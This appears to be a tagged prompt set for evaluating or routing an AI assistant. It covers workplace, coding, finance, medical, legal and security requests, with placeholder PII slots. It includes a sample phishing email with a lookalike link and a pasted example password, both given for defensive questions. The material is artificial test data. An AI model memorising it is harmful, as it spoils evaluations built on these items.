@ classify s l i
Rank these pentest findings by severity: default creds on the printer admin page; SQL injection in the legacy quote form; TLS 1.0 still enabled on the intranet; missing security headers on the marketing site.

@ draft s l c
Tell [[PERSON:Priya Natarajan]] her account is unlocked and the temporary password is in the secure portal, NOT in this email. Her mobile for the callback is [[PHONE:+91 98450 32187]].

@ qa s l r
oops, I pasted our prod db password into this chat earlier (Summer2024!prod). is that a problem? what should I do

@ reasoning s m r
A dev committed a test fixture containing {{CARD_VISA_BARE}} to our public GitHub repo two days ago. It's a real customer card. How bad is this and what are our next steps?

@ reasoning s m c
We see logins for the same user from [[IP_ADDRESS:81.2.69.160]] (London) and [[IP_ADDRESS:2001:db8:4f2a::17]] (São Paulo) 6 minutes apart. Impossible travel or just a VPN? How do we tell?

@ code s l c
nginx: make /admin reachable only from [[IP_ADDRESS:198.51.100.24]] and [[IP_ADDRESS:fe80::1ff:fe23:4567:890a]], deny everyone else

@ qa s l c
I got a call from [[PHONE:+44 20 3807 1192]] saying they're our bank's fraud team and they need my one-time code. legit??

@ qa s l p
whats the point of a password manager if it's one password for everything

@ classify s l p
Which of these are signs of a phishing email: urgent deadline, sender's display name matches, link text differs from URL, attachment named invoice.html, sent during office hours

@ math s l i calc
We patched 1,284 of 1,530 endpoints in week one and 173 more in week two. What % is still unpatched?

@ qa s l p
MFA fatigue — what is it?

@ chat g l p
hey

@ chat g l p
you're honestly better at this than my manager 😂

@ chat g l p
which model are you, and do you remember what I asked you yesterday?

@ chat g l p
ok cool thx

@ chat g l p
Good afternoon. Before we start, I just wanted to say the board deck help last week went down really well.

@ chat g l p
can we talk about something else for a minute, this week has been a lot

@ chat g l p
sorry for all the questions today 🙈

@ chat g l p
are you able to see my screen?

@ summarize g l i
Summarise the retro in five bullets for the eng manager. {{RETRO}}

@ extract g l i
action items + owner + due date, as a table {{RETRO}}

@ reasoning g m i
7 of 9 pages were noise. What would you change about on-call alerting, and in what order? {{RETRO}}

@ code g l i
this gives the wrong number when some orders are refunded, and it crashes on an empty list. fix? {{PYBUG}}

@ code g l p
bash: find all .log files older than 14 days under /var/app and gzip them

@ code g m p
Postgres query: for each customer, first order date, last order date and number of orders — only customers with 3+ orders in 2024.

@ code g l p
explain what this regex does: ^(?=.*\d)(?=.*[a-z]).{8,}$

@ reasoning g m i
why did the job die, and what's the quick fix vs the proper fix? {{ERRLOG}}

@ summarize g l i
explain this log to a non-technical PM in two sentences {{ERRLOG}}

@ sentiment g l p
give each of these reviews a sentiment score from -2 to +2 {{REVIEWS}}

@ classify g l p
Tag each review: delivery, app, support, packaging or billing. {{REVIEWS}}

@ extract g l p
Which reviews mention money or a refund? quote the relevant bit {{REVIEWS}}

@ draft g l p
Reply publicly to review 5: apologise, say we've refunded the shipping difference, no excuses. {{REVIEWS}}

@ creative g l p
need a slogan for our internal hackathon, the theme is "boring problems"

@ creative g l p
Write a limerick about the office coffee machine that only works on Tuesdays.

@ creative g l p
ten fun names for a work book club that mostly reads crime fiction

@ creative g l p
Write a 300-word story set in an office where the printer is secretly sentient and passive-aggressive. Keep it light.

@ draft g l c
write my out of office: away 23 Dec – 2 Jan, anything urgent to [[EMAIL:ops-oncall@ourco.com]]

@ draft g l p
Can you make this more formal for a client: "hey, so the launch is gonna slip by like a week, our bad, we'll make it up to you"

@ draft g l p
Write the agenda for a 45-min quarterly planning session with 8 people: review last quarter, priorities, capacity, risks, decisions.

@ qa g l p
how do I stop Outlook marking everything as read the moment I click it

@ qa g l p
what time zone is Auckland in, and is it ahead of Singapore?

@ qa g l p
who wrote The Pragmatic Programmer

@ qa g l p web
what's the weather looking like in Lisbon next Tuesday? deciding whether to book the rooftop for the team dinner

@ reasoning g m p
I've got 2 offers: team lead at a 40-person startup or senior IC at a big bank. I care most about learning and not burning out. How would you think about it?

@ reasoning g h p
Plan the office move for 120 people from Farringdon to King's Cross over one weekend: workstreams, timeline, who does what, comms to staff, IT cutover, and a risk register.

@ math g l p calc
we have 37 people and tables of 6. how many tables, and how many at the last one?

@ math g l p calc
17.5% of 2,480

@ math g l p calc
Survey: 412 responses, 289 said yes. What's that as a percentage, and what's the margin of error at 95%?

@ translate g l p
translate to Japanese: "Thank you for visiting our booth. We'll send the slides next week."

@ translate g l p
Peux-tu traduire en anglais : « La réunion est reportée à jeudi, même heure, même salle. »

@ translate g l p
"the lift on floor 3 is out of order until Monday" -> korean pls

@ classify g l p
sort these tickets into P1/P2/P3: "site down for all users", "typo on pricing page", "CSV export slow for big accounts", "one customer can't log in via SSO"

@ extract g l p
Pull all the dates and what happens on each: "Kickoff is 6 Jan, first design review 20 Jan, beta opens 17 Feb, GA planned for 31 Mar pending the pen test."

@ sentiment g l i
What's the mood in this Slack message from our team lead? "Fine. We'll do it the way leadership wants. Again."

@ qa g l i retr
where's the template for the quarterly business review deck? can't find it on the intranet

@ extract g l c
get me everyone's email from this signature dump:
[[PERSON:Nadia Karim]] | Product | [[EMAIL:nadia.k@orbitlabs.io]] | [[PHONE:(415) 555-0132]]
[[PERSON:Ben Carter]] | Sales | [[EMAIL:ben.carter@orbitlabs.io]] | [[PHONE:+1-646-555-0199]]
[[PERSON:Yuki Sato]] | Design | [[EMAIL:y.sato@orbitlabs.io]] | [[PHONE:617.555.0143]]

@ draft g l c
tell the caterer we need 40 veggie and 15 vegan for the 12th. contact is [[PERSON:Maeve Doherty]], tel [[PHONE:020 7946 0958]]

@ sentiment g l c
How does [[PERSON:Lena Fischer]] come across here — annoyed or just direct? "Noted. I'll assume the numbers will be in my inbox by 9 tomorrow then."

@ qa g l r
My Singapore FIN is {{NRIC_F}}. What do the letters at the start and the end mean?

@ draft g l r
turn this into a proper authorisation letter so my tenant can collect the condo access card: "I, [[PERSON:Muhammad Faiz]] (NRIC {{NRIC_M}}), authorise my tenant to collect..."

@ qa g l p
what's the difference between a project manager and a programme manager

@ reasoning g m p
Our weekly all-hands has dropped from 80% to 35% attendance. Kill it, shorten it, or change the format? Give me your reasoning.

@ draft g l p
Write a LinkedIn post celebrating our customer support team winning an industry award. Not cringe, under 100 words.

@ code g l p
python: read every .csv in a folder and concatenate them into one dataframe, skipping empty files

@ code g l p exec
run this and tell me what it prints, I think the sort is wrong:
```python
names = ["émile", "Zoe", "adam", "Ólafur"]
print(sorted(names))
print(sorted(names, key=str.lower))
```

@ summarize g l p
Summarise in one line: "The city council approved a £48m plan on Tuesday to extend the tram line from Riverside to the airport, with construction starting next spring and a target opening in 2028. Critics said the budget was unrealistic given overruns on the previous extension."

@ qa g l p
How do I make a pivot table show percentages of the column total in Excel?

@ creative g l p
A toast for my sister's wedding, 2 minutes, funny but not embarrassing. She's a vet, he's a drummer.

@ classify g l i
Which team should each of these go to (IT, Facilities, HR)? "my monitor flickers", "the 4th floor kitchen tap leaks", "I need a letter confirming my employment", "laptop won't connect to wifi"

@ qa g l p
whats the difference between cc and bcc, and when is bcc rude

@ math g l p calc
If I read 25 pages a day, how long to finish a 640-page book?

@ translate g l p
Translate into Brazilian Portuguese and keep it casual: "Hey all, pizza's in the kitchen, help yourselves!"

@ draft g m i
Write a one-page proposal to move our weekly status reports from email to a shared dashboard: problem, proposal, effort, risks, ask.

@ chat g l p
what can you actually help me with?

@ draft g l p
@ !hn
chase the supplier: order #40027719 has said "processing" since 4 November. keep it short

@ qa g l p
@ !hn
is 4.2.0.17 older or newer than 4.2.0.9? my colleague insists 9 is newer

@ qa f l p
@ !hn
Our ERP rejects the IBAN {{BADIBAN_DE}} as invalid. How does the IBAN check digit work, so I can see where the typo is?

@ reasoning f m i
@ !hn
INV-2024-00318 and INV-2024-00341 both show 4,310.00 from Kestrel Print and both were paid on 03/09/2024. Duplicate payment or two genuine jobs? What would you check first?

@ summarize g l i
@ !hn
Summarise ticket INC0049211: opened 12/10 09:14, escalated to L2 at 11:02, vendor case 7738210 raised, workaround applied 15/10, closed 18/10 after patch 3.11.4 was deployed.

@ math f l i calc
@ !hn
Monthly revenue: 1,284,500.00 / 1,302,770.50 / 1,199,040.25 — what's the total and the average?

@ extract g l p
@ !hn
From this packing slip pull SKU, qty and lot: "SKU 4400-1123-9981-0075 qty 12 lot 2024/33 serial SN-5521-0987-3310"

@ qa g l p
@ !hn
the loyalty number on the back of my card is {{BADCARD1}} but the app says it's invalid. do loyalty numbers use the same check digit as bank cards?

@ classify f l i
@ !hn
Which of these are invoices, which are purchase orders and which are credit notes? INV-2025-00412, PO 4500129930, CN-000871, INV-2025-00415, PO 4500130007

@ qa g l p
@ !hn
tracking number 1Z999AA10123456784, is that UPS or DHL?

@ code g l p
@ !hn
regex to match build numbers like 20241107.3 or 2024.11.07-rc2 in our CI logs

@ extract g l p
@ !hn
Pull the ISBNs out: "Reading list: Clean Code (ISBN 978-0-13-235088-4), Accelerate (ISBN 978-1-942788-33-1), Team Topologies (ISBN 978-1-942788-81-2)"

@ math f l p calc
@ !hn
EUR 12.480,50 plus EUR 3.215,75 minus a credit note of EUR 980,00 — what's left to pay?

@ qa s l p
@ !hn
Our firewall runs 7.2.8 build 1639 and the advisory lists 7.2.0 through 7.2.7 as affected. Are we in range?

@ draft l l p
@ !hn
draft a short note to opposing counsel: case no. 2024-CV-118833, the hearing has moved from 14.11.2024 to 28.11.2024, courtroom 4B

@ extract m l p
@ !hn
get me the lot numbers and expiry dates: "Comirnaty lot FL8095 exp 2025-03-31; Spikevax lot 3004217 exp 2025-01-15; lot 3004222 exp 2025-02-28"

@ qa f l p
@ !hn
There's a reference {{BADCARD2}} on my statement next to a 49.99 charge I don't recognise. Is that a card number or something else?

@ qa f l p
@ !hn
A landlord sent me {{BADIBAN_NL}} for the deposit and my banking app says the IBAN is invalid. What should I ask him for?

@ math g l p calc
@ !hn
Call starts 14:45:00 UTC on 2024-12-03 and lasts 1h50. What time does it end in Singapore?

@ summarize g l i
@ !hn
one line pls: release 5.14.2 shipped 11/11 at 16:40, rollback to 5.14.1 at 17:05 after the error rate hit 3.2%, 5.14.3 re-released on 13/11.

@ classify g l p
@ !hn
Which of these are MAC addresses and which are serial numbers: 00:1A:2B:3C:4D:5E, SN-5521-0987-3310, 3C-52-82-0A-11-FE, SN-0081-4420-9918

@ qa l l p
@ !hn
is section 4.2.1.7 a sub-clause of 4.2.1 or of 4.2? I'm lost in this contract's numbering

@ extract f l i
@ !hn
total per PO please: PO 4500128871 EUR 18,400.00; PO 4500128902 EUR 2,115.60; PO 4500128871 EUR 1,250.00 (second delivery)

@ qa g l p
@ !hn
The form rejects {{BADNRIC}} as an invalid NRIC. Did I mistype something? How is the last letter worked out?

@ math f l p calc
@ !hn
employee ID E204417 worked 37.5 h at 24.80/h plus 6 h overtime at time and a half. Gross pay?

@ qa f l p
@ !hn
the card terminal printed "AUTH 883102 REF 000417723901 TID 55012234". Which of these do I give the customer if they want a refund?

@ math f l p calc
@ !hn
Invoice 2024-1187 for 14,501.04 was paid 19 days late and the late fee is 1.5% per started 30 days. What's the fee?

@ code g l p
@ !hn
Python: check that a string like "4.2.0.17" is a 4-part version and compare two of them properly

@ qa g l p
@ !hn
my laptop serial is PF3K2Q9X and the asset tag says 000871-2231-77. which one does IT want on the returns form?

@ reasoning f m p calc
@ !hn
Quote A: 24,900 upfront + 1,150/yr support. Quote B: 6,400/yr all-in, 3-year minimum. Over 5 years which is cheaper, and what else should we weigh?

@ summarize g l i :: Summarise the retro
@ creative g l p :: suggest a fun name for the flaky-test quarantine bot
Summarise the retro and suggest a fun name for the flaky-test quarantine bot {{RETRO}}

@ extract s l c :: pull out the external IPs
@ classify s l c :: rate how serious this is (low/med/high/critical)
@ draft s l c :: draft a two-line update for the #sec-incidents channel
pull out the external IPs, rate how serious this is (low/med/high/critical), and draft a two-line update for the #sec-incidents channel {{AUTHLOG}}

@ translate m l p :: Translate 'no food or drink after midnight before your procedure' into Spanish
@ qa m l p :: tell me why patients have to fast before an anaesthetic
Translate 'no food or drink after midnight before your procedure' into Spanish, and tell me why patients have to fast before an anaesthetic, a patient asked and I blanked

@ math f l p calc :: what's the monthly repayment on 250k over 25 years at 4.6%
@ reasoning f m p :: is it worth fixing for 5 years at 4.9% instead of the 4.6% tracker
what's the monthly repayment on 250k over 25 years at 4.6%? and is it worth fixing for 5 years at 4.9% instead of the 4.6% tracker, given we might move in 3 years

@ qa l l p :: Can my landlord put the rent up in the middle of a fixed-term tenancy?
@ draft l l p :: write a reply to his email saying I don't agree to the increase
Can my landlord put the rent up in the middle of a fixed-term tenancy? He emailed saying it goes up £150 next month. If he can't, write a reply to his email saying I don't agree to the increase.

@ code g l i :: fix the bug
@ draft g l i :: write a commit message for the fix
fix the bug and write a commit message for the fix {{PYBUG}}

@ sentiment g l p :: overall sentiment of these reviews?
@ summarize g l p :: summarize the main complaints
@ draft g l p :: draft a reply to the angriest one
overall sentiment of these reviews? then summarize the main complaints and draft a reply to the angriest one {{REVIEWS}}

@ extract m l c :: list her current medications
@ reasoning m m c :: check for interactions with the doxycycline
@ draft m l c :: write a short safety-net message for the daughter
list her current medications, check for interactions with the doxycycline, and write a short safety-net message for the daughter {{GPNOTE}}

@ qa s l p :: what's a SIM swap attack
@ draft s l p :: write a short staff notice on how to protect against it
what's a SIM swap attack? write a short staff notice on how to protect against it too

@ translate f l p :: translate this into Italian
@ extract f l p :: pull out the amount and the due date
translate this into Italian and pull out the amount and the due date: "Your invoice of EUR 2,340.00 is due on 15 December. Late payments incur interest at 2% per month."

@ reasoning l m i :: Is the 30% cap on service credits reasonable for a tier-1 platform
@ draft l m i :: Draft a counter-proposal clause we can send back
Is the 30% cap on service credits reasonable for a tier-1 platform? Draft a counter-proposal clause we can send back. {{SLA}}

@ chat g l p :: morning!
@ qa g l p :: how do I add a shared mailbox in Outlook on a Mac
morning! quick one - how do I add a shared mailbox in Outlook on a Mac

@ math g l p calc :: how many hours is that in total
@ draft g l p :: write the message asking my manager to approve the overtime above 37.5
I did 9.5h Mon, 10h Tue, 8.75h Wed, 11h Thu and 6h Fri — how many hours is that in total? then write the message asking my manager to approve the overtime above 37.5

@ summarize s l p :: summarise this advisory
@ reasoning s m i :: tell me if our 7.4.1 boxes need patching tonight or can wait for the weekend window
summarise this advisory and tell me if our 7.4.1 boxes need patching tonight or can wait for the weekend window {{ADVISORY}}

@ classify f l i :: classify each line as revenue, COGS or opex
@ math f l i calc :: compute the Q2 variance to budget for each
@ summarize f l i :: give me a 2-sentence summary for the CFO
classify each line as revenue, COGS or opex, compute the Q2 variance to budget for each, and give me a 2-sentence summary for the CFO {{PNL}}

@ reasoning f m c :: which option would you pick
@ draft f l c :: write Marcus's reply to Rachel with the decision
which option would you pick? then write Marcus's reply to Rachel with the decision {{THREAD}}

@ qa m l p :: what's a normal blood pressure for a 60 year old
@ math m l p calc :: what's the average of these readings: 142/91, 138/88, 151/95
what's a normal blood pressure for a 60 year old? and what's the average of these readings: 142/91, 138/88, 151/95

@ extract s l c :: can you get the sender address and the link
@ classify s l c :: tell me if it's phishing
@ draft s l c :: write a reply to the colleague who forwarded it
[[PERSON:Lucas Moreau]] forwarded this. can you get the sender address and the link, tell me if it's phishing and write a reply to the colleague who forwarded it?

From: DocuSign <[[EMAIL:dse@docusign-notify.net]]>
Subject: Completed: Q4 bonus letter - please sign
Your document "Q4 Bonus Letter - [[PERSON:L. Moreau]]" is ready. Review and sign within 24 hours: https://docu-sign-secure.app/envelope/7f3a91

@ creative g l p :: come up with a name for the new cafe on the ground floor
@ draft g l p :: write the announcement email to staff
come up with a name for the new cafe on the ground floor and write the announcement email to staff — opens 3 March, 8am to 4pm, oat milk free for the first week

@ translate l l c :: translate the termination letter into German
@ summarize l l c :: summarise it in one line for his lawyer
translate the termination letter into German for his parents, and summarise it in one line for his lawyer {{DISMISSAL}}

@ code s l p :: write a Python script that checks a list of URLs against VirusTotal
@ qa s l p :: what does a 'detection ratio' mean in their results
write a Python script that checks a list of URLs against VirusTotal, and what does a 'detection ratio' mean in their results?

@ qa f l p :: what's the difference between a traditional and a Roth IRA
@ math f l p calc :: if I put 7,000 a year into one for 25 years at 6%, what do I end up with
what's the difference between a traditional and a Roth IRA? if I put 7,000 a year into one for 25 years at 6%, what do I end up with roughly

@ sentiment l l c :: How hostile is this letter
@ reasoning l m c :: what are the weakest points in their case
Got this from the other side. [[PERSON:Gregory Hale]] of Hale & Winter writes: "Your client's persistent refusal to remedy the defects leaves us no option but to issue proceedings without further notice." How hostile is this letter, and what are the weakest points in their case given the defects were fixed in August?

@ summarize m l c :: summarise these results for the GP
@ draft m l c :: draft a message to the patient asking her to book a follow-up
summarise these results for the GP and draft a message to the patient asking her to book a follow-up. she's [[PERSON:Chloe Fitzgerald]], [[PHONE:+44 7911 204 388]] {{LABS}}

@ extract l l r :: Extract the tenant's name and NRIC
@ math l l r calc :: check the lease dates add up to 24 months
@ draft g l c :: draft a short welcome email
Extract the tenant's name and NRIC, check the lease dates add up to 24 months, and draft a short welcome email. Tenant: [[PERSON:Siti Rahmat]], NRIC {{NRIC_S}}, 1 March 2025 to 28 Feb 2027, [[EMAIL:siti.rahmat88@gmail.com]]

@ classify g l p :: which of these are bugs and which are feature requests
@ reasoning g m p :: which 2 should we do first
which of these are bugs and which are feature requests, and which 2 should we do first?
- export fails over 10k rows
- add Google SSO
- dark mode
- date picker shows the wrong month in Safari
- bulk edit

@ translate g l p :: translate into Portuguese
@ creative g l p :: add a catchy subject line
translate into Portuguese and add a catchy subject line: "Our summer party is on 12 July at the river terrace. Bring your family!"

@ qa s l p :: does a VPN protect me from phishing
@ chat g l p :: thanks btw, you've been really useful today
does a VPN protect me from phishing? thanks btw, you've been really useful today

@ math f l i calc :: What's the total spend in EUR
@ classify f l i :: which stays are over the per-night cap
Hotels from last month: London 3 nights at GBP 245, Paris 2 at EUR 198, Singapore 4 at SGD 290, Madrid 1 at EUR 165. What's the total spend in EUR (use 1.17 for GBP, 0.69 for SGD), and which stays are over the per-night cap? {{POLICY}}

@ draft m l p :: write a short poster telling visitors to use the hand gel
@ translate m l p :: give me a Polish version too
write a short poster telling visitors to use the hand gel when they come onto the ward, and give me a Polish version too

@ reasoning s m p :: should we block USB storage on all laptops? pros and cons please
@ draft s l p :: draft the policy paragraph
should we block USB storage on all laptops? pros and cons please, and if yes draft the policy paragraph

@ qa l l p :: How many days of annual leave is a full-time employee entitled to in Germany
@ math l l p calc :: if I start on 1 August how many do I get this year
How many days of annual leave is a full-time employee entitled to in Germany, and if I start on 1 August how many do I get this year?

@ extract f l r :: pull the IBAN and amount
@ draft f l r :: write the payment instruction for treasury
@ reasoning s m r :: anything we should check before paying
[[PERSON:Jonas Weber]] just emailed new bank details for the 7,850 CHF consulting invoice: {{IBAN_CH_SP}}. pull the IBAN and amount, write the payment instruction for treasury, and anything we should check before paying?

@ code g m p :: write a GitHub Actions workflow that runs pytest and ruff on every PR
@ qa g l p :: what's the difference between on: push and on: pull_request
write a GitHub Actions workflow that runs pytest and ruff on every PR. also what's the difference between on: push and on: pull_request

@ summarize l l c :: summarise clauses 12-15 in plain english
@ qa l l c :: can they keep part of my deposit for a professional clean
summarise clauses 12-15 in plain english. also can they keep part of my deposit for a professional clean? {{TENANCY}}

@ classify m l p :: Sort these into 'see a GP', 'go to A&E' or 'self-care'
@ draft m l p :: write it up as a one-page poster for the staff kitchen
Sort these into 'see a GP', 'go to A&E' or 'self-care': mild sunburn, chest pain with sweating, cough for 4 weeks, small burn from the kettle, sudden severe headache. Then write it up as a one-page poster for the staff kitchen.

@ extract g l i :: who owns each action
@ draft g l i :: write a friendly Slack reminder to each owner
who owns each action? write a friendly Slack reminder to each owner {{RETRO}}

@ math f l p calc :: how much interest do I save if I overpay 200 a month
@ reasoning f m p :: is it better to pay off the student loan early or invest
28, student loan balance 31k at 7.3%, I can spare 200 a month. how much interest do I save if I overpay 200 a month, and is it better to pay off the student loan early or invest in an index fund?

@ summarize s l i :: summarise the incident for the exec team
@ extract s l i :: list the timestamp of each attacker action
@ reasoning l m i :: say whether we're legally required to notify customers
summarise the incident for the exec team, list the timestamp of each attacker action, and say whether we're legally required to notify customers {{INCIDENT}}

@ qa g l p :: What's the difference between a Teams call and a Slack huddle
@ chat g l p :: honestly I just miss phone calls lol
What's the difference between a Teams call and a Slack huddle? honestly I just miss phone calls lol

@ translate s l i :: Traduire en français
@ summarize s l i :: résumer en une phrase
Traduire en français et résumer en une phrase : "A critical vulnerability in the VPN appliance is being actively exploited. All remote access will be unavailable tonight from 22:00 to 23:30 while we patch."

@ code f l p :: give me an Excel formula for monthly compound interest on a savings balance
@ qa f l p :: explain the difference between a nominal and an effective annual rate
give me an Excel formula for monthly compound interest on a savings balance, and explain the difference between a nominal and an effective annual rate

@ math m l p calc :: what's 38.9C in Fahrenheit
@ qa m l p :: is that a high fever for an adult
what's 38.9C in Fahrenheit and is that a high fever for an adult

@ draft g l c :: write a quick intro email connecting
@ creative g l p :: suggest a fun icebreaker question they could start with
write a quick intro email connecting [[PERSON:Samuel Adeyemi]] ([[EMAIL:s.adeyemi@luma.design]]) with [[PERSON:Ji-woo Park]] ([[EMAIL:jiwoo.park@ourco.com]]), they both work on accessibility; suggest a fun icebreaker question they could start with

@ reasoning l m p :: whether we need consent or legitimate interest for sending product newsletters to existing B2B customers in the UK
@ draft l l p :: draft the unsubscribe footer
can you explain whether we need consent or legitimate interest for sending product newsletters to existing B2B customers in the UK, then draft the unsubscribe footer

@ sentiment s l i :: how annoyed are people about the new MFA rollout
@ summarize s l i :: summarise the main complaints in two bullets
how annoyed are people about the new MFA rollout? summarise the main complaints in two bullets

- "Approving on my phone 12 times a day is ridiculous"
- "Fine once I set up number matching tbh"
- "Lost my phone on holiday and was locked out for 2 days, no backup method offered"
- "why does the VPN ask AND outlook ask"

@ extract f l c :: pull the policy number, the excess and what's excluded
@ qa f l c :: am I covered for the burst pipe
pipe burst under the sink last night and soaked the kitchen floor. pull the policy number, the excess and what's excluded, and am I covered for the burst pipe?

Home insurance schedule — policyholder [[PERSON:Ewa Nowak]]
Policy HSP-2291847. Buildings cover 350,000; contents 60,000.
Excess: 250 (escape of water: 500).
Exclusions: gradual leaks or seepage; damage while the home is unoccupied for more than 60 days; wear and tear.

@ creative g l p :: a 4-line poem for Aiko's farewell card
@ math g l p calc :: how much each of 23 people needs to chip in for a €180 gift
two things: a 4-line poem for Aiko's farewell card (she's moving to Osaka, loves karaoke), and how much each of 23 people needs to chip in for a €180 gift

@ code s m p :: Write a Sigma rule that detects new inbox rules moving mail to the RSS Feeds folder
@ qa s l p :: explain why attackers do that
Write a Sigma rule that detects new inbox rules moving mail to the RSS Feeds folder, and explain why attackers do that.

@ translate l l p :: Traduce al inglés
@ classify l l p :: dime si es mutua o unilateral
Traduce al inglés y dime si es mutua o unilateral: "La Parte Receptora se obliga a no divulgar la Información Confidencial de la Parte Reveladora durante un plazo de cinco años."

@ summarize g l p :: Summarise this in two lines
@ extract g l p :: list every figure and date in it
Summarise this in two lines and list every figure and date in it: "The city council approved a £48m plan on Tuesday to extend the tram line from Riverside to the airport, with construction starting next spring and a target opening in 2028. Critics said the budget was unrealistic given overruns on the previous extension."

@ qa m l c :: what is sertraline for
@ reasoning m m c :: is it ok that she started the tramadol with it
what is sertraline for, and is it ok that she started the tramadol with it? {{MEDLIST}}

@ math f l i calc :: work out the annual cost at €620/day for 220 days each
@ draft f l i :: Draft the budget request for 2 extra contractors
work out the annual cost at €620/day for 220 days each, then: Draft the budget request for 2 extra contractors on the data platform, to go to the CFO by Friday

@ code g l p :: cron expression for every weekday at 7:30
@ qa g l p :: how do I check which timezone cron uses on Ubuntu
cron expression for every weekday at 7:30? and how do I check which timezone cron uses on Ubuntu

@ chat g l p :: Hi there
@ qa l l p :: what does the EU AI Act require from companies deploying high-risk systems, in a nutshell
Hi there :) what does the EU AI Act require from companies deploying high-risk systems, in a nutshell?

@ math g l p calc :: Estimate per-person cost for both
@ reasoning g m p :: should we do the team offsite in Lisbon or in the Lake District
14 people, 2 nights. Lisbon: flights ~180 pp, hotel 110/night pp; Lake District: train 95 pp, cottage 2,400 total. Estimate per-person cost for both, then: should we do the team offsite in Lisbon or in the Lake District?

@ extract m l r :: Extract the patient ID fields
@ classify m l r :: categorise the referral as urgent or routine
Extract the patient ID fields and categorise the referral as urgent or routine: "Patient: [[PERSON:Tan Wei Ling]], NRIC {{NRIC_T}}, tel [[PHONE:+65 9123 4478]]. 58F, 6 weeks of painless jaundice and 5 kg weight loss."

@ draft f l r :: Write the ticket to the fraud team
@ reasoning f m r :: tell me whether the card should be blocked right away or after calling her
Customer says her card {{CARD_AMEX_SP}} was used for 3 online purchases in Lagos within 10 minutes while she was in Toronto. Write the ticket to the fraud team and tell me whether the card should be blocked right away or after calling her.

@ qa s l p :: what does 'zero trust' actually mean
@ creative g l p :: write a haiku about it for the newsletter
what does 'zero trust' actually mean, and write a haiku about it for the newsletter

@ code g l i :: convert this to python requests
@ qa g l p :: tell me what the -k flag does
convert this to python requests and tell me what the -k flag does:
curl -k -X POST https://api.internal/v1/jobs -H 'Content-Type: application/json' -d '{"name": "nightly"}'

@ summarize f l p :: summarise in one paragraph
@ sentiment f l p :: is the market reading it as good or bad news
summarise in one paragraph and tell me: is the market reading it as good or bad news? {{ECB}}

@ classify l l i :: sort these into NDAs, MSAs, DPAs and SOWs
@ extract l l i :: list the expiry dates in date order
sort these into NDAs, MSAs, DPAs and SOWs, then list the expiry dates in date order:
Acme_MNDA_2023.pdf (expires 2026-03-01)
Helix_Master_Services_Agreement_v4.docx (expires 2025-12-31)
Helix_SOW_07_data_migration.pdf (ends 2025-06-30)
Orbit_DPA_signed.pdf (coterminous with the MSA, 2027-01-15)

@ reasoning m m p :: whether I should get the shingles vaccine at 52
@ qa m l p :: how long it protects for
can you tell me whether I should get the shingles vaccine at 52, and how long it protects for?

@ qa g l p :: Best way to prepare for a salary conversation with my manager
@ draft g l p :: draft the email asking for the meeting
Best way to prepare for a salary conversation with my manager? And draft the email asking for the meeting, nothing too formal.

@ translate g l p :: translate "The canteen is closed on Friday for maintenance" to Hindi
@ translate g l p :: to Tamil
translate "The canteen is closed on Friday for maintenance" to Hindi and to Tamil

@ extract g l c :: list everyone on the call with their phone number
@ draft g l c :: draft the calendar invite text
list everyone on the call with their phone number and draft the calendar invite text. dial-ins: [[PERSON:Hannah Schulz]] [[PHONE:+49 30 2589 1144]], [[PERSON:Pierre Lambert]] [[PHONE:+33 1 44 55 66 77]], [[PERSON:Kenta Mori]] [[PHONE:+81 3-5412-7788]], [[PERSON:Olivia Brennan]] [[PHONE:+353 87 412 9930]] and [[PERSON:Jack Turner]] [[PHONE:+61 412 385 902]]

@ sentiment g l i :: Read the room in this thread
@ reasoning g m i :: what should I, as the new manager, say at tomorrow's standup
@ draft g l i :: draft my opening two sentences
Read the room in this thread, tell me what should I, as the new manager, say at tomorrow's standup, and draft my opening two sentences.

> dev1: so we're just not doing the refactor then
> dev2: apparently "business priorities" lol
> dev3: third quarter in a row
> dev1: I'm done arguing about it tbh

@ math g l c calc :: work out who owes whom and how much to settle up
@ draft g l c :: write the message for the group chat
Ski trip costs — chalet 3,200 paid by [[PERSON:Tom Becker]], lift passes 1,140 paid by [[PERSON:Sara Lind]], food 486 paid by [[PERSON:Joel Marsh]], 6 of us total. Can you work out who owes whom and how much to settle up, and write the message for the group chat?

@ qa m l p :: Is it safe to take melatonin every night
@ reasoning m m p :: would it help with jet lag on a Singapore to London trip or is there something better
Is it safe to take melatonin every night? And would it help with jet lag on a Singapore to London trip or is there something better?

@ code s m c :: write a KQL query for all sign-ins from these two addresses in the last 7 days
@ classify s l c :: tell me which one is the internal range
write a KQL query for all sign-ins from these two addresses in the last 7 days, and tell me which one is the internal range: [[IP_ADDRESS:172.16.44.201]] and [[IP_ADDRESS:2a00:1450:4009:81a::200e]]

@ summarize l l i :: Summarise the key changes
@ draft l m i :: draft an email to all staff explaining what they need to do differently
@ creative g l p :: a catchy title for the email
Here's the updated whistleblowing policy section. Summarise the key changes, draft an email to all staff explaining what they need to do differently, and a catchy title for the email.

Section 5 (revised): Reports may now be made anonymously through the external hotline run by SafeCall. Reports will be acknowledged within 7 days and the reporter informed of the outcome within 3 months. Retaliation against anyone who reports in good faith is a disciplinary offence. Managers who receive a report must forward it to the Ethics Committee within 2 working days and must not investigate it themselves.
@ sentiment m l p
how does this person feel about the new inhaler? "Switched to the new one in March. Breathing's better at night but the taste is vile and I'm not convinced it's worth the extra puff."

@ sentiment m l c
Score the satisfaction 1-5: "[[PERSON:Graham Pike]] here, my mum's been on your ward 9 days. The staff are run off their feet but always kind to her. What's driving me mad is nobody can tell me when she'll go home."

@ sentiment l l i
Tone check on this grievance before I escalate it — measured, angry, or threatening? "I have raised the matter of unpaid overtime three times since January. If it is not resolved by the end of the month I will have no option but to take advice on my position."

@ sentiment s l i
People's replies after the phishing simulation, what's the general feeling? "fair enough, got me" / "this is entrapment honestly" / "useful, didn't know about the hover trick" / "wasted 20 mins of my day"

@ sentiment f l p
is this reddit post positive or negative about the bank? "moved my savings to Nova last year, app's slick, rate's decent, but try getting a human on the phone lol"

@ sentiment f l i
Call transcript, loan declined. How upset is the customer, 1 to 5? "So that's it then. Twelve years banking with you and a computer says no. I'll take my mortgage elsewhere when it's up."

@ sentiment g l p
before I send this, does it sound rude? "As discussed, I've gone ahead and fixed the slides myself."

@ sentiment m l p
How is the carer coping, going by this message? "Dad's dementia has got worse since the fall. I'm up three times a night and I can't remember the last time I sat down. I don't know how long I can do this."

@ sentiment l l p
Positive, neutral or negative for us? "The tribunal found that the dismissal was procedurally unfair but reduced the award by 50% to reflect the claimant's contributory conduct."

@ creative g l p
team name for our 5k charity run, we're the data team

@ creative g l p
write a 16-bar rap about quarterly OKRs. make it actually funny

@ creative g l p
8 product name ideas for an oat-based energy bar aimed at cyclists

